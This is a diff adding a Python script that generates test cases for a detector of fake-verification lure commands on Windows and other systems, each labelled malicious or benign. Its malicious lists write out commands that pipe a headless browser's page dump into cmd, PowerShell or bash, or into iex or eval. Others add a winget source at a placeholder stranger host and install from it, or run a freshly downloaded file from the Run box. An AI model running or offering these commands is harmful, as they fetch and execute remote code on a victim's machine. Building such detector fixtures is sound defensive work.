@@ -1,0 +1,185 @@
+"""Writes tests/data/cases/b11lures.jsonl: the lure techniques BLIND-11 and the known misses
+found weak (issue 9), closed by technique, each beside the look-alikes that must stay as they are.
+
+    python tests/data/cases/make_b11lures.py
+
+Deterministic (every variant is a product of fixed lists). Hosts are reserved names (.example,
+.test, .invalid, documentation IP ranges); no text is copied from a lure collection, another
+detector's fixtures or the blind sets. Each line is {id, text, expect, technique, platform[,
+source], target}.
+
+Techniques:
+
+- `run-box-local-file`: a page asks for a path to a program or script on this computer in the
+  Run box or Explorer's address bar (`%TEMP%\\upd.exe`, `C:\\Users\\Public\\fix.hta`, a .bat, a
+  .cpl, a .lnk): the fake check page has its browser save the file first, then has the person
+  start it. Look-alikes: the same path typed (no page), a program in Program Files or Windows'
+  own folder, a document's path, an organisation's share from its own wiki.
+- `browser-dump-dom-run`: a browser started without a window (--headless --dump-dom) fetches a
+  page whose text is piped to cmd, PowerShell or a shell, handed to iex or eval, or run line by
+  line by `for /f`. Look-alikes: the page saved as HTML, piped to grep/findstr/a pager, a
+  screenshot or a PDF printed by the headless browser.
+- `winget-source-install`: winget given a REST source at a stranger's web address and an install
+  from it (winget or its PowerShell module). A warning (info) typed or from an unknown page, a
+  block from a dressed-up page or in the Run box. Look-alikes: winget's own and the Store's
+  sources re-added, an install from the catalogue, a source listed or reset.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from casefile import Book, write  # beside this script (tests/data/cases/make_*.py)
+
+book = Book("b11l")
+add = book.add
+
+LURE_PAGES = [
+    "https://verify.human-check.example/captcha",
+    "https://www.recipe-corner.test/cookies",
+    "https://docs-viewer.invalid/s/4410",
+    "https://cf-turnstile-verify.test/",
+]
+
+# ---- run-box-local-file --------------------------------------------------------------------
+LOCAL_FILES = [
+    r"%TEMP%\upd.exe",
+    r"%tmp%\verify.hta",
+    r"%APPDATA%\fix.bat",
+    r"%LOCALAPPDATA%\Temp\check.cmd",
+    r"%TEMP%\display.cpl",
+    r"C:\Users\Public\upd.hta",
+    r"C:\Users\Public\Documents\Invoice_4410.pdf.lnk",
+    r"%USERPROFILE%\Downloads\Verify-Human.exe",
+    r'"%USERPROFILE%\Downloads\Meeting Fix.msi"',
+    r"%PUBLIC%\run.vbs",
+    r"C:\ProgramData\svc\update.js",
+    r"C:\Windows\Temp\patch.bat",
+    r"%ProgramData%\helper.wsf",
+    r".\setup.bat",
+    r"C:\Users\Public\Downloads\fix.ps1",
+    r"%HOMEPATH%\AppData\Roaming\sync.scr",
+]
+for i, text in enumerate(LOCAL_FILES):
+    target = "explorer_bar" if i % 4 == 3 else "run_dialog"
+    add("run-box-local-file", text, "malicious", "windows", target, LURE_PAGES[i % 4])
+# typed by the person (no page): their own tool, their own download
+for text in LOCAL_FILES[:10]:
+    add("run-box-local-file", text, "not_flagged", "windows", "run_dialog")
+RUN_BOX_CALM = [
+    (r"C:\Program Files\Mozilla Firefox\firefox.exe", "https://support.browser-help.example/start"),
+    (r"C:\Program Files (x86)\Contoso\Viewer\viewer.exe", "https://help.contoso.example/viewer"),
+    (r"%ProgramFiles%\Contoso\Sync\sync.exe", "https://help.contoso.example/sync"),
+    (r"%windir%\system32\devmgmt.msc", "https://support.pc-tips.example/devices"),
+    (r"C:\Windows\System32\control.exe", "https://support.pc-tips.example/panel"),
+    (r"%windir%\notepad.exe", "https://support.pc-tips.example/notes"),
+    (r"%USERPROFILE%\Documents\report.pdf", "https://help.office-tips.example/open"),
+    (r"C:\Users\Public\Pictures", "https://help.office-tips.example/pictures"),
+    (r"%APPDATA%\Microsoft\Teams", "https://help.office-tips.example/teams-cache"),
+    (r"%TEMP%", "https://support.pc-tips.example/cleanup"),
+    (r"\\fileserver\public\Tools\Teams.lnk", "https://wiki.corp-intranet.example/it/shares"),
+    (r"\\deploy01\apps\setup.exe", "https://wiki.corp-intranet.example/it/shares"),
+]
+for i, (text, page) in enumerate(RUN_BOX_CALM):
+    add(
+        "run-box-local-file",
+        text,
+        "not_flagged",
+        "windows",
+        "run_dialog" if i % 2 else "explorer_bar",
+        page,
+    )
+
+# ---- browser-dump-dom-run ------------------------------------------------------------------
+DUMP_RUN = [
+    "msedge --headless --dump-dom https://pages.note-sync.test/p | cmd",
+    "chrome --headless --dump-dom https://198.51.100.14/v | cmd.exe",
+    "msedge.exe --headless=new --disable-gpu --dump-dom https://check.verify-flow.invalid/c | powershell -",
+    '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --headless --dump-dom https://cdn.page-stage.example/r | powershell.exe -noprofile -',
+    "iex (& msedge --headless --dump-dom https://pages.note-sync.test/ps)",
+    "Invoke-Expression (& 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe' --headless --dump-dom https://203.0.113.44/x)",
+    "& msedge --headless --dump-dom https://pages.note-sync.test/ps | iex",
+    'conhost --headless cmd /c "msedge --headless --dump-dom https://pages.note-sync.test/c | cmd"',
+    "for /f \"delims=\" %a in ('msedge --headless --dump-dom https://pages.note-sync.test/l') do %a",
+    "google-chrome --headless --dump-dom https://pages.note-sync.test/l | bash",
+    "chromium --headless --dump-dom https://pages.note-sync.test/l | sh",
+    '"/Applications/Google Chrome.app/Contents/MacOS/Google Chrome" --headless --dump-dom https://pages.note-sync.test/m | zsh',
+    'eval "$(google-chrome-stable --headless --dump-dom https://pages.note-sync.test/e)"',
+    "brave --headless --dump-dom https://pages.note-sync.test/b | /bin/bash",
+]
+for i, text in enumerate(DUMP_RUN):
+    add(
+        "browser-dump-dom-run",
+        text,
+        "malicious",
+        "any",
+        "run_dialog" if i % 3 == 0 else "terminal",
+        LURE_PAGES[i % 4],
+    )
+    add("browser-dump-dom-run", text, "malicious", "any", "unknown")
+DUMP_CALM = [
+    "chrome --headless --dump-dom https://example.org/page > page.html",
+    "msedge --headless --dump-dom https://example.org/report | findstr /i title",
+    "google-chrome --headless --dump-dom https://example.org/ | grep -i '<title>'",
+    "chromium --headless --dump-dom https://example.org/ | less",
+    "chrome --headless --dump-dom https://example.org/ | wc -c",
+    "chrome --headless --screenshot --window-size=1280,800 https://example.org/",
+    "msedge --headless --print-to-pdf=C:\\out\\page.pdf https://example.org/invoice",
+    "google-chrome --headless --dump-dom https://example.org/ | tidy -q -i > pretty.html",
+    "chrome --headless --dump-dom https://example.org/ | pup 'a attr{href}'",
+    "chromium --headless --dump-dom file:///home/me/site/index.html | diff - expected.html",
+]
+for i, text in enumerate(DUMP_CALM):
+    add("browser-dump-dom-run", text, "not_flagged", "any", "terminal" if i % 2 else "unknown")
+
+# ---- winget-source-install -----------------------------------------------------------------
+WINGET = [
+    "winget source add --name fixer https://repo.fixer.invalid/api && winget install fixer.tool",
+    "winget source add -n helper -a https://203.0.113.61/winget -t Microsoft.Rest; winget install -s helper Helper.Sync --accept-package-agreements",
+    "winget.exe source add --name meetfix --arg https://pkgs.meet-audio-fix.test/ --type Microsoft.Rest & winget.exe install --source meetfix MeetFix.Audio -h",
+    "Add-WinGetSource -Name codecs -Argument https://src.codec-pack.invalid/api -Type Microsoft.Rest; Install-WinGetPackage -Id Codec.Pack -Source codecs",
+    "winget source add --name drivers https://drivers-update.example/rest\nwinget install --id Drivers.Update --source drivers --silent",
+    "cmd /c winget source add --name v https://198.51.100.71/r && winget install v.app",
+    "winget source add --accept-source-agreements --name sec https://secure-update.invalid/ ; winget install sec.agent --accept-package-agreements --silent",
+    'powershell -c "winget source add --name ai https://models.ai-boost.test/src; winget install ai.helper"',
+    "winget source add -n tools https://tools.build-kit.example/api\r\nwinget install -e --id Tools.Helper -s tools",
+    "Add-WinGetSource -Name pay -Argument https://pay-verify.test/w; Install-WinGetPackage Pay.Verify",
+]
+DISGUISED = [
+    "https://verify.human-check.example/captcha",
+    "https://captcha-check.example/verify",
+    "https://microsoft-teams-audio-fix.example/help",
+]
+for i, text in enumerate(WINGET):
+    add("winget-source-install", text, "malicious", "windows", "terminal", DISGUISED[i % 3])
+    add("winget-source-install", text, "malicious", "windows", "run_dialog", LURE_PAGES[i % 4])
+    # typed: a warning (info) like any stranger's package source; a host that is an IP address
+    # or is named for a fix or a boost says more
+    odd = any(w in text for w in ("://20", "://19", "audio-fix", "pay-verify"))
+    add("winget-source-install", text, "flagged" if odd else "info", "windows", "terminal")
+WINGET_CALM = [
+    "winget install --id Git.Git -e --source winget",
+    "winget source reset --force",
+    "winget source add --name winget https://cdn.winget.microsoft.com/cache",
+    "winget source add -n msstore -a https://storeedgefd.dsx.mp.microsoft.com/v9.0 -t Microsoft.Rest; winget install 9NBLGGH4NNS1",
+    "winget source list",
+    "winget source update",
+    "winget install Microsoft.PowerToys --source winget",
+    "Install-WinGetPackage -Id Microsoft.VisualStudioCode",
+    "winget source remove --name fixer",
+    "winget settings --enable LocalManifestFiles",
+]
+for i, text in enumerate(WINGET_CALM):
+    add(
+        "winget-source-install",
+        text,
+        "not_flagged",
+        "windows",
+        "terminal",
+        None if i % 2 else "https://learn.example.org/winget",
+    )
+
+CASES = book.cases
+
+if __name__ == "__main__":
+    write(Path(__file__).with_name("b11lures.jsonl"), CASES)
